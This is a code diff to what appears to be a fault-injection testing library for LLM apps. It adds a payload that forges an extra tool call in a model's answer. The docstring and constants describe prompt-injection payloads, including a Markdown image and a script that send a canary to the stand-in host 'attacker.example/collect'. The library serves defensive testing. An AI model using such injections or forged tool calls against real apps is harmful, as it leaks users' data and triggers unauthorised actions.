@@ -14,7 +14,12 @@ text it was planted in.
 - ``exfiltration``: a Markdown image whose URL would send the canary to an outside host
   (``https://attacker.example/collect?d=...``), as a rendered chat answer would fetch it;
 - ``script``: an HTML ``<script>`` that would post the canary to that host;
-- ``canary``: the canary alone.
+- ``canary``: the canary alone;
+- ``tool_call``: (``target: answer``) the model's answer asks for one more tool call,
+  ``tool_name`` with ``arguments``, as a model steered by injected content does: the call is
+  added after the answer's last tool call (same shape and format, its own id), so an answer
+  that calls no tool is left alone. A side-effecting or forbidden tool here tests whether the
+  app runs whatever its model asks (``unauthorized_action``).
 
 ``text`` replaces the payload's wording (``{canary}`` in it is filled in; without it the canary
 is appended). ``target``: ``tool`` plants it in a tool's answer (a JSON body, or an MCP result's
@@ -25,14 +30,16 @@ Gemini; body or stream), after what the model said.
 
 from __future__ import annotations
 
+import json
 import random
 from typing import TYPE_CHECKING, Any, ClassVar, Literal
 
-from pydantic import Field
+from pydantic import Field, model_validator
 
 from faultkit.faults.answer import MODULES, Answer
 from faultkit.faults.base import Alteration, Applied, Fault, FaultContext
 from faultkit.formats import jsonpath, mcp
+from faultkit.formats.common import CallEdit
 from faultkit.formats.detect import WireFormat
 from faultkit.formats.jsonpath import Parts
 from faultkit.plan import Plan
@@ -42,7 +49,7 @@ if TYPE_CHECKING:
 
     from faultkit.faults._search import Limits
 
-Payload = Literal["instruction", "exfiltration", "script", "canary"]
+Payload = Literal["instruction", "exfiltration", "script", "canary", "tool_call"]
 OUTSIDE = "https://attacker.example/collect"
 CANARY_PREFIX = "FKC-"
 _WORDING: dict[str, str] = {
@@ -69,7 +76,7 @@ class Injection(Fault):
     category = "meaning"
     search_order = 170
     payload: Payload = Field(
-        "instruction", description="instruction | exfiltration | script | canary"
+        "instruction", description="instruction | exfiltration | script | canary | tool_call"
     )
     target: Literal["tool", "answer"] = Field(
         "tool", description="tool: a tool's answer; answer: the model's own answer text."
@@ -80,6 +87,20 @@ class Injection(Fault):
     text: str | None = Field(
         None, min_length=1, description="Own wording; {canary} is filled in (else appended)."
     )
+    tool_name: str | None = Field(
+        None, min_length=1, description="tool_call: the tool the planted call asks for."
+    )
+    arguments: dict[str, Any] = Field(
+        default_factory=dict, description="tool_call: the planted call's arguments."
+    )
+
+    @model_validator(mode="after")
+    def _tool_call_needs(self) -> Injection:
+        if self.payload == "tool_call" and (self.tool_name is None or self.target != "answer"):
+            raise ValueError("payload tool_call needs tool_name and target: answer")
+        if self.payload != "tool_call" and (self.tool_name is not None or self.arguments):
+            raise ValueError("tool_name and arguments are for payload tool_call")
+        return self
 
     formats: ClassVar[frozenset[WireFormat] | None] = frozenset(
         {WireFormat.json, WireFormat.mcp, *MODULES}
@@ -99,6 +120,8 @@ class Injection(Fault):
         )
 
     def describe(self) -> str:
+        if self.payload == "tool_call":
+            return f"the model's answer also asks for {self.tool_name}"
         where = "a tool's answer" if self.target == "tool" else "the model's answer"
         return f"{self.payload} injected into {where}"
 
@@ -118,7 +141,10 @@ class Injection(Fault):
         head = plan.head
         if head is not None and head.status >= 400:
             return Applied(plan, [])
-        text = self.planted(canary(ctx.rng))
+        token = canary(ctx.rng)
+        if self.payload == "tool_call":
+            return self._call_into_answer(plan, ctx, token)
+        text = self.planted(token)
         if self.target == "answer":
             return self._into_answer(plan, ctx, text)
         return self._into_tool(plan, text)
@@ -132,6 +158,30 @@ class Injection(Fault):
         new = answer.set_output_text(slot.key, f"{slot.text}\n\n{text}")
         return Applied(
             new, [Alteration(path=slot.where, action="injected", original=slot.text, value=text)]
+        )
+
+    def _call_into_answer(self, plan: Plan, ctx: FaultContext, token: str) -> Applied:
+        """One more tool call after the answer's last: a copy of it (so shape, format and
+        framing are the provider's), renamed, with the planted arguments and its own id."""
+        answer = Answer.read(plan, ctx.format)
+        calls = answer.tool_calls() if answer is not None else []
+        if answer is None or not calls:
+            return Applied(plan, [])
+        last = calls[-1]
+        copied = Answer.read(answer.duplicate_tool_call(last.key), ctx.format)
+        assert copied is not None
+        added = copied.tool_calls()[last.position + 1]
+        prefix = "toolu_" if ctx.format == WireFormat.anthropic_messages else "call_"
+        ident = prefix + token.removeprefix(CANARY_PREFIX)
+        edit = CallEdit(
+            name=self.tool_name,
+            arguments=json.dumps(self.arguments),
+            id=ident if added.id is not None else None,
+        )
+        planted = {"name": self.tool_name, "arguments": self.arguments, "id": edit.id}
+        return Applied(
+            copied.edit_tool_call(added.key, edit),
+            [Alteration(path=added.where, action="injected", original=None, value=planted)],
         )
 
     def _into_tool(self, plan: Plan, text: str) -> Applied:
